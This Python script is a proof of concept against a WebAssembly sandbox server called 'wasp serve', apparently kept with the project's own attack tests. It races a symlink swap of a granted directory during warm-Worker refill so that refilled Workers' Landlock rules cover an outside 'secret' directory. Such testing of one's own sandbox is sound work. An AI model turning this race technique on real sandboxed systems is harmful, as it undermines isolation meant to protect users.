#!/usr/bin/env python3
"""wasp serve: the warm-Worker key names each grant by (path, dev:ino) as stat'ed when the
run that triggered the refill was checked, but the refilled Workers open their Landlock rules
by path later. Swap the granted path for a symlink to a directory outside the ceiling while
the refill happens, swap it back, and the next run with the same grant gets a warm Worker
whose kernel wall covers the outside directory instead of its grant (the envelope still says
landlock abi 7). Walls 1 and 2 still hold (the run fails with EACCES on its own grant), so it
is a wrong wall / denial of service, and a V8 escape in that Worker would be kernel-allowed
outside the ceiling.  Run: python3 attacks/warm_worker_misdirected_landlock.py"""
import json, os, subprocess, tempfile, time, shutil
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
lab = tempfile.mkdtemp(prefix="wasp-warm-ll.")
ceil, secret, mods = f"{lab}/ceil", f"{lab}/secret", f"{lab}/mods"
for d in (f"{ceil}/wk", secret, mods): os.makedirs(d)
open(f"{ceil}/wk/in.txt", "w").write("A-content\n")
open(f"{secret}/in.txt", "w").write("OUTSIDE\n")
open(f"{lab}/cat.c", "w").write('#include <stdio.h>\n#include <string.h>\n#include <errno.h>\nint main(int c,char**v){FILE*f=fopen(v[1],"r");if(!f){printf("%s: %s\\n",v[1],strerror(errno));return 0;}char b[99];size_t n=fread(b,1,98,f);b[n]=0;fputs(b,stdout);return 0;}\n')
open(f"{lab}/sleep.c", "w").write('#include <time.h>\nint main(void){struct timespec t={2,0};nanosleep(&t,0);return 0;}\n')
for n in ("cat", "sleep"):
    subprocess.run(["clang", "--target=wasm32-wasi", "-O2", f"{lab}/{n}.c", "-o", f"{mods}/{n}.wasm"], check=True)
srv = subprocess.Popen(["deno", "run", "-A", f"{ROOT}/main.ts", "serve", "--allow-dir", f"ws={ceil}",
                        "--module-dir", mods, "--max-concurrency", "1"],
                       stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
def ask(i, mod, args):
    srv.stdin.write(json.dumps({"id": i, "kind": "wasm-run", "module": f"{mods}/{mod}.wasm", "args": args,
                                "allow_dirs": [{"path": f"{ceil}/wk", "guest": "/w"}]}) + "\n"); srv.stdin.flush()
def answer():
    e = json.loads(srv.stdout.readline())
    print(e["id"], e["status"], e.get("error_kind"), repr(e["stdout"]), (e.get("policy") or {}).get("walls"))
ask("control", "cat", ["/w/in.txt"]); answer()          # warms the key for this grant
ask("R1", "sleep", []); time.sleep(1.0)                  # R1 runs 2 s; its end refills the key
os.rename(f"{ceil}/wk", f"{ceil}/wk.A"); os.symlink(secret, f"{ceil}/wk")   # host-side swap
answer(); time.sleep(2.0)                                # refill Workers open Landlock on wk -> secret
os.remove(f"{ceil}/wk"); os.rename(f"{ceil}/wk.A", f"{ceil}/wk")           # swap back: same inode
for i in ("R2", "R3", "R4"):
    ask(i, "cat", ["/w/in.txt"]); answer()
srv.stdin.close(); srv.wait(); shutil.rmtree(lab)
